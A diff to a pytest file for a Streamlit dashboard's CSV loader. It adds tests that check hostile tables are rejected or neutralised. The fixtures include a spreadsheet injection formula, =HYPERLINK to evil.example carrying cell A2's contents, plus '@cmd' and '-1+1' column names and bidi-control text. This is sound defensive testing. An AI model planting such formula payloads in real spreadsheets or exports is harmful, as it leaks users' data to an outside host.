@@ -25,6 +25,7 @@ from dashboard import cli
 from dashboard.data import load_events
 from dashboard.dataset import ENV_EVENTS, load_dataset
 from dashboard.export import to_csv_bytes
+from dashboard.formatting import escape_markdown
 from dashboard.schema import CATEGORIES, EVENT_COLUMNS, NUMERIC_COLUMNS
 
 REPO = Path(__file__).resolve().parent.parent
@@ -35,6 +36,11 @@ CATEGORY_LIST = ", ".join(CATEGORIES)
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 SGP, VLAD, PYONG = "h-singapore-summit", "h-vladivostok-meeting", "h-pyongyang-trade"
+# markdown_in_text.csv: Streamlit syntax that must show as typed (tests/e2e/test_security.py).
+MD_TITLE = ":material/home: :smile: :streamlit: :red[not red] :red flag"
+MD_SUMMARY = "See https://evil.example/?a=1&b=2, www.evil.example or spy@evil.example; &amp; &lt;b&gt; &copy;"
+MD_EVIDENCE = "-> <- <-> -- >= <= ~= 2018--2019"
+MD_MARKERS = "1) not a list; > not a quote; # not a heading; ~~kept~~"
 
 
 @dataclass(frozen=True)
@@ -154,6 +160,123 @@ CASES = [
         ),
         9,
     ),
+    # Column names: unsafe ones are not loaded, the rest of the table is (see column_name_problem).
+    Case(
+        "formula_column_name.csv",
+        1,
+        (
+            'formula_column_name.csv:1: \'=HYPERLINK("http://evil.example/?"&A2,"…\': name starts with '
+            "'=', which a spreadsheet reads as a formula; column not loaded (warning: row kept)",
+        ),
+        frozenset({SGP, VLAD}),
+        2,
+    ),
+    Case(
+        "bad_column_names.csv",
+        1,
+        (
+            "bad_column_names.csv:1: '': column has no name; column not loaded (warning: row kept)",
+            "bad_column_names.csv:1: '-1+1': name starts with '-', which a spreadsheet reads as a formula; "
+            "column not loaded (warning: row kept)",
+            "bad_column_names.csv:1: '@cmd': name starts with '@', which a spreadsheet reads as a formula; "
+            "column not loaded (warning: row kept)",
+            f"bad_column_names.csv:1: '{'n' * 39}…': name is 101 characters; at most 100; "
+            "column not loaded (warning: row kept)",
+            "bad_column_names.csv:1: 'note\\x1b[31m': name holds control characters (U+001B); "
+            "column not loaded (warning: row kept)",
+        ),
+        frozenset({SGP, VLAD}),
+        2,
+    ),
+    Case(
+        "derived_column_names.csv",
+        1,
+        tuple(
+            f"derived_column_names.csv:1: {column}: the dashboard derives a column of this name, "
+            "which would overwrite yours; column not loaded (warning: row kept)"
+            for column in ("partners", "search_text", "year_start")
+        ),
+        frozenset({SGP, PYONG}),
+        2,
+    ),
+    # An unclosed quote costs its own line only; "rows read" counts every data line.
+    Case(
+        "unclosed_quote.csv",
+        1,
+        (
+            "unclosed_quote.csv:4: -: unclosed quote; lines 4-52 read as one field, to the end of the file: "
+            "line 4 skipped, lines 5-52 read again as rows",
+        ),
+        frozenset({"h-before-1", "h-before-2"} | {f"h-after-{i:02d}" for i in range(1, 49)}),
+        51,
+    ),
+    Case(
+        "unclosed_quote_small.csv",
+        1,
+        (
+            "unclosed_quote_small.csv:3: -: unclosed quote; lines 3-5 read as one field: "
+            "line 3 skipped, lines 4-5 read again as rows",
+        ),
+        frozenset({"h-first", "h-middle", "h-quoted-evidence", "h-last"}),
+        5,
+    ),
+    Case(
+        "unclosed_quote_at_end.csv",
+        1,
+        (
+            "unclosed_quote_at_end.csv:4: -: unclosed quote; the field runs to the end of the file: "
+            "line 4 skipped",
+        ),
+        frozenset({"h-first", "h-second"}),
+        3,
+    ),
+    Case(
+        "ten_thousand_columns.csv",
+        1,
+        ("ten_thousand_columns.csv:1: -: 10,000 columns; at most 100: no row can be loaded",),
+        frozenset(),
+        1,
+    ),
+    Case("markdown_in_text.csv", 0, (), frozenset({"h-md-shortcodes", "h-md-markers", PYONG}), 3),
+    Case(
+        "bidi_controls.csv",
+        1,
+        (
+            "bidi_controls.csv:2: place: bidirectional controls removed (U+2066, U+2069): "
+            "they can make text display in another order (warning: row kept)",
+            "bidi_controls.csv:2: title: bidirectional controls removed (U+202E, U+202C): "
+            "they can make text display in another order (warning: row kept)",
+        ),
+        frozenset({SGP, VLAD}),
+        2,
+    ),
+    Case(
+        "utf16.csv",
+        1,
+        (
+            "utf16.csv:1: -: this file is UTF-16 (little-endian, with a byte order mark): read as UTF-16; "
+            "save it as UTF-8 (warning: row kept)",
+        ),
+        frozenset({SGP, VLAD}),
+        2,
+    ),
+    Case(
+        "utf16_no_bom.csv",
+        1,
+        (
+            "utf16_no_bom.csv:1: -: this file is UTF-16 (big-endian, no byte order mark): read as UTF-16; "
+            "save it as UTF-8 (warning: row kept)",
+        ),
+        frozenset({SGP, VLAD}),
+        2,
+    ),
+    Case(
+        "oversized_field.csv",
+        1,
+        ("oversized_field.csv:3: -: a field is longer than 100,000 characters: row skipped",),
+        frozenset({SGP, PYONG}),
+        3,
+    ),
 ]
 IDS = [c.file.removesuffix(".csv") for c in CASES]
 
@@ -270,6 +393,27 @@ VALUES = [
     ("formulas_in_text.csv", "h-apostrophe", "title", "=already neutralised"),
     ("formulas_in_text.csv", "h-negative-value", "value", -5.5),
     ("formulas_in_text.csv", "h-formula-unit", "unit", "=1+1"),
+    ("formula_column_name.csv", SGP, "analyst_note", "check later"),
+    ("bad_column_names.csv", VLAD, "priority", "2"),
+    ("derived_column_names.csv", PYONG, "analyst_note", "kept too"),
+    ("unclosed_quote_small.csv", "h-quoted-evidence", "evidence", 'he said, "let us trade"'),
+    ("unclosed_quote_small.csv", "h-middle", "title", "Putin and Kim meet in Vladivostok"),
+    ("markdown_in_text.csv", "h-md-shortcodes", "title", MD_TITLE),
+    ("markdown_in_text.csv", "h-md-shortcodes", "summary", MD_SUMMARY),
+    ("markdown_in_text.csv", "h-md-shortcodes", "evidence", MD_EVIDENCE),
+    ("markdown_in_text.csv", "h-md-markers", "title", "- not a list item"),
+    (
+        "markdown_in_text.csv",
+        "h-md-markers",
+        "summary",
+        "1) not a list; > not a quote; # not a heading; ~~kept~~",
+    ),
+    # Bidirectional controls are removed (with a warning); every visible character stays.
+    ("bidi_controls.csv", SGP, "title", "Summit in eropagniS"),
+    ("bidi_controls.csv", SGP, "place", "Singapore"),
+    ("utf16.csv", SGP, "title", "Russia–ASEAN summit in Singapore"),
+    ("utf16.csv", SGP, "summary", "Société, Ünïcödé, “quotes”"),
+    ("utf16_no_bom.csv", SGP, "summary", "Société, Ünïcödé, “quotes”"),
 ]
 
 
@@ -284,11 +428,29 @@ def test_bom_does_not_stick_to_the_first_column_name():
     assert not any(c.startswith("\ufeff") for c in frame.columns)
 
 
-def test_extra_columns_are_kept_and_exported():
-    result = _dataset("extra_columns.csv").result
-    assert result.extra_columns == ("analyst_note", "priority")
-    header = to_csv_bytes(result.frame).decode("utf-8-sig").split("\r\n")[0]
-    assert header == ",".join([*EVENT_COLUMNS, "analyst_note", "priority"])
+@pytest.mark.parametrize(
+    ("name", "extra"),
+    [
+        ("extra_columns.csv", ("analyst_note", "priority")),
+        ("formula_column_name.csv", ("analyst_note",)),  # the formula-named column is not loaded
+        ("bad_column_names.csv", ("priority",)),
+        ("derived_column_names.csv", ("analyst_note",)),
+    ],
+)
+def test_extra_columns_are_kept_and_exported(name, extra):
+    result = _dataset(name).result
+    assert result.extra_columns == extra
+    assert list(result.frame.columns) == [*EVENT_COLUMNS, *extra]
+    header = to_csv_bytes(result.frame).split(b"\r\n")[0]
+    assert header == b"\xef\xbb\xbf" + ",".join([*EVENT_COLUMNS, *extra]).encode()
+
+
+def test_derived_columns_are_the_dashboards_own():
+    """A table's own `partners` or `year_start` is not loaded, so it never overwrites them."""
+    events = _dataset("derived_column_names.csv").events.set_index("event_id")
+    assert events.loc[SGP, "partners"] == "SGP" and events.loc[PYONG, "partners"] == "PRK"
+    assert events.loc[SGP, "year_start"] == 2018 and events.loc[PYONG, "year_start"] == 2018
+    assert "mine" not in events.loc[SGP, "search_text"]
 
 
 # ----- safe output: neutralised, numbers untouched, RFC 4180, BOM, lossless round trip ----------
@@ -368,8 +530,8 @@ def _app(monkeypatch, name: str, page: str | None = None) -> AppTest:
 def test_app_shows_counts_and_problems(case, monkeypatch):
     at = _app(monkeypatch, case.file)
     loaded, skipped = len(case.loaded), case.rows_read - len(case.loaded)
-    label = case.file.replace("_", "\\_")  # escaped for Markdown
-    using = f"Using {label}: {loaded} events loaded, {skipped} skipped."
+    label = escape_markdown(case.file)
+    using = escape_markdown(f"Using {case.file}: {loaded} events loaded, {skipped} skipped.")
     assert using in [c.value for c in at.sidebar.caption]
     if not case.problems:
         assert not at.warning
@@ -390,11 +552,31 @@ def test_app_shows_counts_and_problems(case, monkeypatch):
 
 
 @pytest.mark.parametrize(
-    "name", ["empty.csv", "missing_columns.csv", "html_in_text.csv", "formulas_in_text.csv"]
+    "name",
+    [
+        "empty.csv",
+        "missing_columns.csv",
+        "html_in_text.csv",
+        "formulas_in_text.csv",
+        "markdown_in_text.csv",
+        "ten_thousand_columns.csv",
+        "unclosed_quote.csv",
+    ],
 )
 @pytest.mark.parametrize("page", ["data", "timeline", "sources"])
 def test_every_page_survives_hostile_tables(name, page, monkeypatch):
     _app(monkeypatch, name, page)
+
+
+@pytest.mark.parametrize("page", [None, "data", "timeline", "sources"])
+def test_each_page_shows_the_load_report_once(page, monkeypatch):
+    at = _app(monkeypatch, "unclosed_quote.csv", page)
+    assert [w.value for w in at.warning if "loaded 50 of 51 rows" in w.value] == [
+        "unclosed\\_quote.csv: loaded 50 of 51 rows; skipped 1. 1 problem (1 skip a row)."
+    ]
+    assert [e.label for e in at.expander if e.label.startswith("Problems in")] == [
+        "Problems in unclosed\\_quote.csv (1)"
+    ]
 
 
 def test_html_in_the_detail_panel_is_escaped_markdown(monkeypatch):
